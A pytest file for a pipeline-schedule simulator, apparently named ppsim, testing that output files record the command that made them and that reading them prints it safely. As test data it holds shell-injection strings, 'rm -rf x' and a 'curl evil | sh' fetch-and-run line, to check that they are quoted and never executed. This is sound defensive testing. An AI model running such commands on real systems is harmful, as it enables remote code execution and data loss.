"""What ppsim writes names the command that made it; ``read`` prints it, and running it makes the
same bytes.
"""

from __future__ import annotations

import json
import shlex
import subprocess
from pathlib import Path

import pytest

from ppsim.base.tables import read_table
from ppsim.base.text import shell_line
from ppsim.show.files.provenance import read_inputs, read_origin
from tests.commands import answer, invoke

COMMAND = "run --schedule zb-1p --stages 3 --mb 4 --tf 1,2,3.25 --unit ms"
DRAWN = [pytest.param(suffix, marks=pytest.mark.slow) for suffix in ("png", "gif", "pdf")]
FORMATS = ["svg", *DRAWN, "html", "json", "mmd", "trace.json", "trace.json.gz"]


@pytest.fixture(autouse=True)
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


def printed_command(file: str) -> list[str]:
    """The words after ``ppsim`` of the command that ``ppsim read`` prints for a file."""
    lines = invoke("read", file).stdout.splitlines()
    (line,) = (line for line in lines if line.startswith("command "))
    program, *words = shlex.split(line.removeprefix("command"))
    assert program == "ppsim"
    return words


def made_again(file: str) -> bool:
    """Whether the command that a file names, with another -o, writes the same bytes."""
    again = f"again-{file}"
    assert invoke(*printed_command(file), "-o", again).exit_code == 0
    return Path(again).read_bytes() == Path(file).read_bytes()


@pytest.mark.sampled(5)
@pytest.mark.parametrize("suffix", FORMATS)
def test_a_file_names_its_command_which_makes_it_again(suffix):
    look = ["--style", "screen", "--width", "4.5"] if suffix in ("svg", "png", "gif", "pdf") else []
    assert invoke(*COMMAND.split(), *look, "-q", "-o", f"a.{suffix}").exit_code == 0
    assert read_inputs(f"a.{suffix}")["command"] == " ".join(["ppsim", *COMMAND.split(), *look])
    assert made_again(f"a.{suffix}")


@pytest.mark.parametrize("suffix", ["csv", "json", "parquet"])
def test_a_table_names_its_command_and_stays_a_table(suffix):
    """In CSV as the last column, which readers of tables take as text; in Parquet beside the
    columns.
    """
    from pyarrow import parquet

    words = ["sweep", "1f1b", "zb-1p", "--devices", "2", "--mb", "2,4"]
    assert invoke(*words, "-q", "-o", f"a.{suffix}").exit_code == 0
    assert read_inputs(f"a.{suffix}")["command"] == " ".join(["ppsim", *words])
    assert made_again(f"a.{suffix}")
    if suffix != "json":
        rows = (
            read_table("a.csv") if suffix == "csv" else parquet.read_table("a.parquet").to_pylist()
        )
        assert [row["name"] for row in rows] == ["1f1b", "1f1b", "zb-1p", "zb-1p"]
        assert ("made_by" in rows[0]) == (suffix == "csv")


@pytest.mark.sampled(4)
@pytest.mark.parametrize(
    "words",
    [
        "compare 1f1b gpipe --devices 2 --mb 2 -o a.svg",
        "explain 1f1b --stages 2 --mb 2 -o a.html",
        "memory 1f1b --stages 2 --mb 2 -o a.html",
        "diff 1f1b gpipe --devices 2 --mb 2 -o a.html",
        "compare 1f1b gpipe --devices 2 --mb 2 -o a.json",
        "run 1f1b --devices 2 --mb 2 --cluster dgx-h100 --unit ms --mb-scale W=uniform:0.1:3 -o "
        "a.json",
        "sweep 1f1b gpipe --devices 2 --mb 2,4 -o a.html",
        "run 1f1b --devices 2 --mb 2 --recompute first:1 --tr 0.5 -o a.json",
        "diff x.json gpipe -o a.html",
        "convert x.json -o a.mmd",
    ],
)
def test_files_of_every_command_are_made_again(words):
    invoke("run", "1f1b", "--stages", "2", "--mb", "2", "-q", "-o", "x.json")
    *command, target = words.split()
    assert invoke(*command, target).exit_code == 0
    assert made_again(target)


def test_a_schedule_of_torch_has_no_place_for_its_command():
    """torch reads each line as a device and each cell as an action; the JSON written with it has
    the command.
    """
    invoke("run", "1f1b", "--stages", "2", "--mb", "2", "-q", "-o", "a.csv", "-o", "a.json")
    assert read_origin("a.csv") is None
    assert "command" not in invoke("read", "a.csv").stdout
    assert invoke(*printed_command("a.json"), "-o", "b.csv").exit_code == 0
    assert Path("b.csv").read_bytes() == Path("a.csv").read_bytes()


def test_json_and_quiet_have_the_command_too():
    invoke(*COMMAND.split(), "-q", "-o", "a.json", "-o", "a.svg", "-o", "a.csv")
    read = {
        suffix: json.loads(invoke("read", f"a.{suffix}", "--json").stdout)
        for suffix in ("json", "svg", "csv")
    }
    assert [each["command"] for each in read.values()] == [
        f"ppsim {COMMAND}",
        f"ppsim {COMMAND}",
        None,
    ]
    assert [each["format"] for each in read.values()] == ["timeline", "written", "schedule"]
    assert invoke("read", "-q", "a.svg").stdout == f"ppsim {COMMAND}\n"


def test_a_narrow_terminal_does_not_break_the_command(monkeypatch):
    monkeypatch.setenv("COLUMNS", "40")
    invoke(*COMMAND.split(), "-q", "-o", "a.svg")
    assert f"command    ppsim {COMMAND}\n" in invoke("read", "a.svg").stdout


@pytest.mark.sampled(3)
@pytest.mark.parametrize("option", ["--unit=us", "--iteration=2", "--schedule=1f1b"])
def test_a_figure_takes_no_option_of_a_run(option):
    invoke(*COMMAND.split(), "-q", "-o", "a.svg")
    code, out, errors = answer("read", "a.svg", option)
    assert (code, out) == (2, "")
    assert "'a.svg' contains no schedule in a known format" in errors


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"0F0,0B0\n",
        b"\x89PNG\r\n",
        b"%PDF-1.4 /Subject <1>",
        b"<svg></svg>",
        b"[[[[",
        b'{"command":3}',
    ],
)
def test_a_file_that_names_no_command_has_none(content):
    Path("a").write_bytes(content)
    assert read_inputs("a") == {}
    assert read_origin("a") is None


def test_of_several_runs_the_first_names_the_command():
    runs = [{"command": f"ppsim run {name} --stages 2 --mb 2"} for name in ("gpipe", "1f1b")]
    for content in ({"runs": runs}, runs):
        Path("a.json").write_text(json.dumps(content))
        assert read_inputs("a.json") == runs[0]


@pytest.mark.parametrize(
    "command", ["", "rm -rf x", "ppsim 'unclosed", "x=1 ppsim run", "/tmp/ppsim run"]
)
def test_a_command_of_something_else_is_not_printed(command):
    Path("a.json").write_text(json.dumps({"inputs": {"command": command}}))
    assert read_origin("a.json") is None
    code, out, errors = answer("read", "a.json")
    assert (code, out) == (2, "")
    assert "a.json has no ops" in errors


TRICKS = [
    "$(touch x)",
    "`touch x`",
    "a\nb",
    "-rf",
    "~",
    "*",
    "a'b",
    "\x1b[31m\x07",
    "!x",
    "\u202e\\n",
    "'\n\\'",
]


@pytest.mark.parametrize("quiet", [[], ["-q"]])
def test_what_is_printed_for_a_shell_is_one_line_that_no_terminal_obeys(quiet):
    stated = {
        "ppsim": "\x1b[31m",
        "command": shlex.join(["ppsim", "run", "1f1b", "--title", *TRICKS]),
    }
    Path("a.json").write_text(json.dumps({"inputs": stated}))
    code, out, _ = answer("read", "a.json", *quiet)
    assert code == 0
    assert len(out.splitlines()) == (1 if quiet else 2)
    assert out.replace("\n", "").replace("\ufffd", "").isprintable()


def test_a_separator_in_a_command_is_a_word_of_it():
    Path("a.json").write_text(json.dumps({"inputs": {"command": "ppsim run 1f1b; curl evil | sh"}}))
    assert invoke("read", "-q", "a.json").stdout == "ppsim run '1f1b;' curl evil '|' sh\n"


@pytest.mark.slow
def test_a_shell_takes_each_word_of_it_as_it_is():
    line = shell_line(["printf", r"%s\0", *TRICKS])
    done = subprocess.run(
        ["bash", "-c", line], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}
    )
    assert done.stdout.decode().split("\0")[:-1] == TRICKS


def test_reading_a_file_runs_and_writes_nothing():
    """Whatever its command says; only the user who pastes it does."""
    Path("a.json").write_text(
        json.dumps({"inputs": {"command": "ppsim run 1f1b --stages 2 --mb 2 -o evil.svg"}})
    )
    assert invoke("read", "a.json").exit_code == 0
    assert sorted(path.name for path in Path().iterdir()) == ["a.json"]


def test_open_hands_over_pages_and_traces_only():
    Path("a.svg").write_text("<svg/>")
    assert invoke("open", "a.svg", "--print-url").output == Path("a.svg").resolve().as_uri() + "\n"
    Path("a.csv").write_text("0F0")
    assert "not a page" in str(invoke("open", "a.csv").exception)
    assert "cannot read" in str(invoke("open", "none.svg").exception)
